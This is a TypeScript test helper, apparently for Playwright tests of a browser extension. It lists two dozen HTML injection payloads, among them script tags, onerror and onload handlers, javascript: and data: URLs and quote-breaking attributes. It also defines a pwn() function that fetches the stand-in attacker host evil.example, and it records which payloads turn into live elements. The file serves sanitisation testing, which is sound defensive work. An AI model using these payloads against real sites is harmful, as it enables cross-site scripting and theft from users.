/** Markup in place of a text. Each piece marks the element that it would become. */
import type { Frame, Page } from "@playwright/test";
import type { Extension } from "../browser/extension";

const host = "https://evil.example";

export const shapes: [name: string, markup: (mark: string) => string][] = [
  ["an image with onerror", (mark) => `<img src=x onerror=pwn() ${mark}>`],
  ["an image from another host", (mark) => `<img src=${host}/i ${mark}>`],
  ["an SVG with onload", (mark) => `<svg onload=pwn() ${mark}></svg>`],
  ["a script", (mark) => `<script ${mark}>pwn()</script>`],
  ["a script in mixed case", (mark) => `<sCrIpT ${mark}>pwn()</ScRiPt>`],
  ["a script from another host", (mark) => `<script src=${host}/s ${mark}></script>`],
  ["a frame with srcdoc", (mark) => `<iframe srcdoc="<script>parent.pwn()</script>" ${mark}></iframe>`],
  ["a frame with a javascript: URL", (mark) => `<iframe src=javascript:pwn() ${mark}></iframe>`],
  ["a quote that ends an attribute", (mark) => `"><b onmouseover=pwn() ${mark}>x</b>`],
  ["an apostrophe that ends an attribute", (mark) => `'><i onclick=pwn() ${mark}>x</i>`],
  ["a link with a javascript: URL", (mark) => `<a href=javascript:pwn() ${mark}>x</a>`],
  ["a link with a data: URL", (mark) => `<a href="data:text/html,<script>pwn()</script>" ${mark}>x</a>`],
  ["a details element with ontoggle", (mark) => `<details open ontoggle=pwn() ${mark}></details>`],
  ["an input with autofocus and onfocus", (mark) => `<input autofocus onfocus=pwn() ${mark}>`],
  ["a video whose source has onerror", (mark) => `<video ${mark}><source onerror=pwn() src=${host}/v></video>`],
  ["an object element", (mark) => `<object data=${host}/o ${mark}></object>`],
  ["an embed element", (mark) => `<embed src=${host}/e ${mark}>`],
  ["a style sheet with @import", (mark) => `<style ${mark}>@import url(${host}/c)</style>`],
  ["a style sheet link", (mark) => `<link rel=stylesheet href=${host}/l ${mark}>`],
  ["a form", (mark) => `<form action=${host} ${mark}><button>x</button></form>`],
  ["a base element", (mark) => `<base href=${host}/ ${mark}>`],
  ["a meta refresh", (mark) => `<meta http-equiv=refresh content="600;url=${host}" ${mark}>`],
  ["markup inside MathML", (mark) => `<math><mtext><img src=${host}/m ${mark}></mtext></math>`],
  ["a custom element", (mark) => `<x-y onclick=pwn() ${mark}>x</x-y>`],
];

export const payloads = shapes.map(([, markup], index) => markup(`data-pwn=${index}`));

/** The surfaces in which markup became an element, and the requests that it sent, by the number of its shape. */
export type Found = Map<number, Set<string>>;

const note = (found: Found, number: number, where: string): void => void found.set(number, (found.get(number) ?? new Set()).add(where));

/** Makes the markup send a request when it runs, and records each request to the attacker's host. */
export async function watchMarkup({ context, addScript }: Pick<Extension, "context" | "addScript">): Promise<Found> {
  const found: Found = new Map();
  await addScript(() => void Object.assign(globalThis, { pwn: () => fetch("https://evil.example/pwned").catch(() => undefined) }));
  context.on("request", (request) => {
    if (!request.url().startsWith(host)) return;
    const index = shapes.findIndex(([, markup]) => markup("").includes(request.url()));
    note(found, Math.max(0, index), `a request to ${request.url()}`);
  });
  return found;
}

/** Notes what became an element in a page or the card. */
export async function noteMarked(found: Found, place: Page | Frame, surface: string): Promise<void> {
  const numbers = await place.evaluate(() =>
    [...document.querySelectorAll("[data-pwn]")].map((element) => Number(element.getAttribute("data-pwn"))),
  );
  for (const number of numbers) note(found, number, surface);
}
